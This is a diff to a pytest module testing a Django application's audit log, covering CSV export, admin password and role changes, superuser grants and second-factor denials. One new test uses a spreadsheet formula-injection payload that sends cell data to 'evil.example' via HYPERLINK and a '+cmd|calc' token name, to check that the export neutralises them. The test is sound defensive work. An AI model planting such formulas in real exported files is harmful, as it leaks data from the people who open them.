@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -139,9 +141,9 @@ def test_exporting_the_audit_log_is_itself_recorded(client, admin, official):
         {"action": "export_csv", "_selected_action": ids},
     )
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
-    body = response.content.decode()
-    assert body.splitlines()[0].startswith("time,event,username")
-    assert "login" in body
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[0][:3] == ["time", "event", "username"]
+    assert any(row[1] == "login" and row[2] == "dewi" for row in rows[1:])
     (export,) = entries(Event.EXPORT)
     assert export.actor == admin and export.details["rows"] == len(ids)
 
@@ -206,7 +208,7 @@ def test_the_admin_view_filters_and_cannot_edit(client, admin, official):
     assert page.context["cl"].result_count == 2
     entry = AuditEntry.objects.first()
     change = client.post(reverse("admin:coordination_auditentry_change", args=[entry.pk]), {})
-    assert change.status_code in (403, 200)
+    assert change.status_code == 403
     assert AuditEntry.objects.get(pk=entry.pk).event == entry.event
     delete = client.post(
         reverse("admin:coordination_auditentry_delete", args=[entry.pk]), {"post": "yes"}
@@ -219,3 +221,103 @@ def test_only_administrators_read_the_log(client, official):
     client.force_login(OfficialFactory(role=Role.COORDINATOR))
     response = client.get(reverse("admin:coordination_auditentry_changelist"))
     assert response.status_code == 302  # not staff: sent to the admin login
+
+
+def test_the_csv_export_cannot_smuggle_a_spreadsheet_formula(client, admin):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    OfficialFactory(username="victim")
+    audit_record(Event.LOGIN, username="victim", request=None, note=hostile)
+    token, _raw = services.token_create(official=admin, name="+cmd|calc")
+    client.force_login(admin)
+    response = client.post(
+        reverse("admin:coordination_auditentry_changelist"),
+        {
+            "action": "export_csv",
+            "_selected_action": list(AuditEntry.objects.values_list("pk", flat=True)),
+        },
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@")), cell
+    details = [json.loads(row[7]) for row in rows[1:]]
+    assert {"note": hostile} in details  # kept, as JSON text, not evaluated
+
+
+def test_a_username_typed_that_nobody_has_is_not_recorded(client, official):
+    client.post(reverse("login"), {"username": "my-secret-password", "password": "x"})
+    (failed,) = entries(Event.LOGIN_FAILED)
+    assert failed.actor_username == "" and failed.details == {"known_username": False}
+    assert "my-secret-password" not in json.dumps(list(AuditEntry.objects.values()), default=str)
+
+
+def test_officials_created_in_the_admin_are_recorded(client, admin):
+    agency = AgencyFactory(code="gowa")
+    client.force_login(admin)
+    response = client.post(
+        reverse("admin:coordination_official_add"),
+        {
+            "username": "baru",
+            "first_name": "Pejabat",
+            "last_name": "Baru",
+            "email": "baru@example.test",
+            "agency": agency.pk,
+            "position_title": "Staf",
+            "role": Role.ADMINISTRATOR,
+            "password1": "a-long-passphrase-1",
+            "password2": "a-long-passphrase-1",
+            "usable_password": "true",
+        },
+    )
+    assert response.status_code == 302, response.content.decode()[:3000]
+    (role,) = entries(Event.ROLE_CHANGED)
+    assert role.details == {"old": None, "new": "administrator"} and role.actor == admin
+    (membership,) = entries(Event.MEMBERSHIP_CHANGED)
+    assert membership.details == {"old_agency": None, "new_agency": "gowa"}
+
+
+def test_an_administrator_setting_a_password_is_recorded(client, admin, official):
+    client.force_login(admin)
+    response = client.post(
+        f"/admin/coordination/official/{official.pk}/password/",
+        {
+            "password1": "set-by-the-admin-1",
+            "password2": "set-by-the-admin-1",
+            "usable_password": "true",
+        },
+    )
+    assert response.status_code == 302
+    (changed,) = entries(Event.PASSWORD_CHANGED)
+    assert changed.actor == admin and changed.target_id == str(official.pk)
+
+
+def test_the_administrators_own_password_change_is_recorded(client, admin):
+    client.force_login(admin)
+    response = client.post(
+        "/admin/password_change/",
+        {
+            "old_password": TEST_PASSWORD,
+            "new_password1": "a-new-admin-passphrase",
+            "new_password2": "a-new-admin-passphrase",
+        },
+    )
+    assert response.status_code == 302 and response["Location"] == "/admin/password_change/done/"
+    assert entries(Event.PASSWORD_CHANGED)[0].actor == admin
+
+
+def test_granting_superuser_is_recorded(admin, official):
+    official.is_superuser = True
+    official.save()
+    services.official_apply_access(official=official, by=admin, previous={"is_superuser": False})
+    (granted,) = entries(Event.ROLE_CHANGED)
+    assert granted.details == {"superuser": True}
+
+
+def test_an_api_call_before_the_second_factor_is_a_recorded_denial(client, official):
+    from django_otp.plugins.otp_totp.models import TOTPDevice
+
+    TOTPDevice.objects.create(user=official, name="Rakor", confirmed=True)
+    client.force_login(official)
+    assert client.get("/api/v1/me").status_code == 403
+    (denied,) = entries(Event.PERMISSION_DENIED)
+    assert denied.actor == official
